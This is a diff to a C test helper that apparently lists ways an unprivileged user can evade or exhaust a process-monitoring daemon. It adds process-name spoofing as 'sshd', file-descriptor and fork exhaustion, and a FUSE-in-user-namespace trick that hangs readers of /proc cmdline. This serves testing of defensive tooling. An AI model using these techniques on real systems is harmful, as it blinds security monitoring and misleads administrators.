@@ -1,8 +1,19 @@
 /* What an ordinary user does to blind, fool or exhaust the daemon; main() lists the ways. */
 #define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -64,6 +75,26 @@ static void again(char **given)
   sleep(atoi(given[2]));
 }
 
+/* descriptors NUMBER FORKS: calls itself sshd, opens so many descriptors, and forks children that end. */
+static void descriptors(char **given)
+{
+  struct rlimit limit;
+  getrlimit(RLIMIT_NOFILE, &limit);
+  limit.rlim_cur = limit.rlim_max;
+  setrlimit(RLIMIT_NOFILE, &limit);
+  prctl(PR_SET_NAME, "sshd");
+  for (int i = 0; i < atoi(given[0]) && dup(0) >= 0; i++)
+    ;
+  printf("open\n");
+  fflush(stdout);
+  for (int i = 0; i < atoi(given[1]); i++) {
+    if (fork() == 0)
+      _exit(0);
+    reap();
+  }
+  pause();
+}
+
 /* login COMMAND: forks as a login server does, and the child's child leads a session that runs COMMAND
  * in a shell. As a library in another program (LD_PRELOAD) the command is that of ATTACK_LOGIN. */
 static void login(char **given)
@@ -77,6 +108,128 @@ static void login(char **given)
     reap();
     _exit(0);
   }
+  reap();
+}
+
+/* hang DEVICE FOLDER SECONDS: a process whose memory keeps its readers waiting. A file system of its own
+ * (FUSE, mounted on FOLDER in a user namespace) lets the first read of a mapped page fail and never
+ * answers the next: the page fault waits with the lock of the memory, a mmap queues up for writing, and
+ * whoever reads /proc/PID/cmdline queues up behind that. DEVICE is /dev/fuse or another node of it. */
+static char *page;
+
+static void answer(int device, unsigned long unique, int error, const void *data, size_t size)
+{
+  char message[4096];
+  struct fuse_out_header head = {sizeof(head) + size, error, unique};
+  memcpy(message, &head, sizeof(head));
+  memcpy(message + sizeof(head), data, size);
+  if (write(device, message, sizeof(head) + size) < 0)
+    perror("answer");
+}
+
+static void serve(int device)
+{
+  static char request[1 << 20];
+  struct fuse_in_header *head = (void *)request;
+  int reads = 0;
+  for (;;) {
+    if (read(device, request, sizeof(request)) < 0) {
+      if (errno == EINTR)
+        continue;
+      return;
+    }
+    struct fuse_attr attributes = {.ino = head->nodeid, .nlink = 1, .blksize = 4096, .mode = S_IFDIR | 0755};
+    if (head->nodeid != 1 || head->opcode == FUSE_LOOKUP) {
+      attributes.mode = S_IFREG | 0644;
+      attributes.size = 4096;
+      attributes.ino = 2;
+    }
+    struct fuse_init_out init = {.major = 7, .minor = 31, .max_write = 4096};
+    struct fuse_entry_out entry = {.nodeid = 2, .attr_valid = 1000, .entry_valid = 1000, .attr = attributes};
+    struct fuse_attr_out attribute = {.attr_valid = 1000, .attr = attributes};
+    struct fuse_open_out opened = {.fh = 1};
+    if (head->opcode == FUSE_INIT)
+      answer(device, head->unique, 0, &init, sizeof(init));
+    else if (head->opcode == FUSE_LOOKUP)
+      answer(device, head->unique, 0, &entry, sizeof(entry));
+    else if (head->opcode == FUSE_GETATTR)
+      answer(device, head->unique, 0, &attribute, sizeof(attribute));
+    else if (head->opcode == FUSE_OPEN)
+      answer(device, head->unique, 0, &opened, sizeof(opened));
+    else if (head->opcode == FUSE_READ) {
+      if (++reads == 1)
+        answer(device, head->unique, -EIO, "", 0);
+    } else if (head->opcode != FUSE_FORGET)
+      answer(device, head->unique, -ENOSYS, "", 0);
+  }
+}
+
+static void *fault(void *unused)
+{
+  volatile char byte = page[0];
+  (void)byte;
+  return 0;
+}
+
+static void *queue_up(void *unused)
+{
+  usleep(500000);
+  mmap(0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+  return 0;
+}
+
+static void write_file(const char *path, const char *text)
+{
+  int file = open(path, O_WRONLY);
+  if (file < 0 || write(file, text, strlen(text)) < 0)
+    refuse(path);
+  close(file);
+}
+
+static void hang(char **given)
+{
+  char text[128];
+  int uid = getuid(), gid = getgid();
+  if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
+    refuse("unshare");
+  write_file("/proc/self/setgroups", "deny");
+  snprintf(text, sizeof(text), "0 %d 1", uid);
+  write_file("/proc/self/uid_map", text);
+  snprintf(text, sizeof(text), "0 %d 1", gid);
+  write_file("/proc/self/gid_map", text);
+  int device = open(given[0], O_RDWR);
+  if (device < 0)
+    refuse(given[0]);
+  snprintf(text, sizeof(text), "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
+  if (mount("attacks", given[1], "fuse", MS_NOSUID | MS_NODEV, text))
+    refuse("mount");
+  pid_t server = fork();
+  if (server == 0) {
+    serve(device);
+    _exit(0);
+  }
+  pid_t victim = fork();
+  if (victim == 0) {
+    pthread_t threads[2];
+    close(device); /* with the last server the reads end */
+    snprintf(text, sizeof(text), "%s/file", given[1]);
+    int file = open(text, O_RDONLY);
+    if (file < 0)
+      refuse(text);
+    page = mmap(0, 4096, PROT_READ, MAP_SHARED, file, 0);
+    madvise(page, 4096, MADV_RANDOM);
+    pthread_create(&threads[0], 0, fault, 0);
+    pthread_create(&threads[1], 0, queue_up, 0);
+    pthread_join(threads[0], 0);
+    _exit(0);
+  }
+  sleep(1);
+  printf("%d\n", victim);
+  fflush(stdout);
+  sleep(atoi(given[2]));
+  kill(server, SIGKILL);
+  kill(victim, SIGKILL);
+  close(device);
   reap();
 }
 
@@ -100,7 +253,9 @@ int main(int count, char **given)
   } ways[] = {
       {"arguments", 4, arguments},
       {"again", 3, again},
+      {"descriptors", 2, descriptors},
       {"login", 1, login},
+      {"hang", 3, hang},
   };
 
   for (unsigned i = 0; i < sizeof(ways) / sizeof(*ways); i++)
